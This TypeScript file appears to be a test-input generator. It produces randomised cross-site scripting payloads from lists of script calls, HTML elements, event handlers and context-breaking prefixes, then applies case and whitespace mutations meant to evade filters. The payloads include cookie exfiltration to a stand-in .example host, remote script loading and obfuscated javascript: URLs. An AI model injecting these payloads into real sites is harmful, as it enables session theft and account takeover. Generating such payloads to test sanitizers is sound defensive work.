// Cross-site scripting by its grammar: an element or attribute that runs, a call into the browser, and the context it leaves.
import type { Random } from '../random.ts';

const CALLS = (r: Random): string =>
  r.pick([
    `alert(${r.integer(1, 99)})`,
    'alert(document.cookie)',
    'confirm(document.domain)',
    'prompt`1`',
    `fetch('//${r.word()}.example/?'+document.cookie)`,
    "eval(atob('YWxlcnQoMSk='))",
    'window.location=`//a.example/`',
    "top['al'+'ert'](1)",
    '(alert)(1)',
    '[1].map(alert)',
    'document.body.innerHTML=1',
    "setTimeout('alert(1)')",
    'alert.call(null,1)',
    'import("//a.example/x.js")',
  ]);
const ELEMENTS = [
  'img',
  'svg',
  'body',
  'details',
  'video',
  'input',
  'a',
  'iframe',
  'x',
  'marquee',
  'select',
  'div',
  'audio',
  'object',
  'style',
  'button',
];
const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'ontoggle',
  'onfocus',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
  'onauxclick',
  'oncut',
  'onwheel',
  'onbeforetoggle',
];
const BREAKS = ['', '', '">', "'>", '</textarea>', '</title>', '--><', '"/>', '</script>', 'x">', '\'">'];

export function markupAttack(r: Random): string {
  const call = CALLS(r);
  const text = r.pick([
    () => `<script>${call}</script>`,
    () => `<script src=//${r.word()}.example/x.js></script>`,
    () =>
      `<${r.pick(ELEMENTS)}${r.pick([' ', '/', '\n', '\t', '/x/'])}${r.pick(['', 'src=x ', 'autofocus ', 'open '])}${r.pick(EVENTS)}=${call}>`,
    () => `<${r.pick(ELEMENTS)} ${r.pick(EVENTS)}="${call.replaceAll('"', "'")}">x`,
    () => `<a href="javascript:${call.replaceAll('"', "'")}">x</a>`,
    () => `<a href=java&#115;cript&colon;${call}>x</a>`,
    () => `<iframe src="data:text/html,<script>${call.replaceAll('"', "'")}</script>">`,
    () => `<svg><animate attributeName=href to=javascript:${call} /></svg>`,
    () => `<math><mi xlink:href="javascript:${call.replaceAll('"', "'")}">x`,
    () => `<object data="javascript:${call.replaceAll('"', "'")}">`,
    () => `<meta http-equiv=refresh content="0;url=javascript:${call.replaceAll('"', "'")}">`,
    () => `<form action=javascript:${call}><button>x`,
    () => `" ${r.pick(EVENTS)}=${call} x="`,
    () => `' autofocus ${r.pick(EVENTS)}='${call.replaceAll("'", '"')}`,
    () => `javascript:${call}`,
    () => `java\tscript:${call}`,
    () => `';${call}//`,
    () => `"-${call}-"`,
    () => `\\'-${call}//`,
    () => `\${${call}}`,
    () => `<style>@import'//${r.word()}.example/x.css';</style>`,
    () => `<${r.word()} ${r.pick(EVENTS)}=${call}>`,
  ])();
  const broken = text.startsWith('<') ? r.pick(BREAKS) + text : text;
  return r.pick<(t: string) => string>([
    (t) => t,
    (t) => t,
    (t) =>
      t.replace(
        /<(\w+)/g,
        (_, name: string) => `<${[...name].map((c, i) => (i % 2 === 0 ? c.toUpperCase() : c)).join('')}`,
      ),
    (t) => t.replace(/(on\w+)=/g, '$1 ='),
    (t) => t.replace(/ (on\w+)/g, '\u000c$1'),
  ])(broken);
}
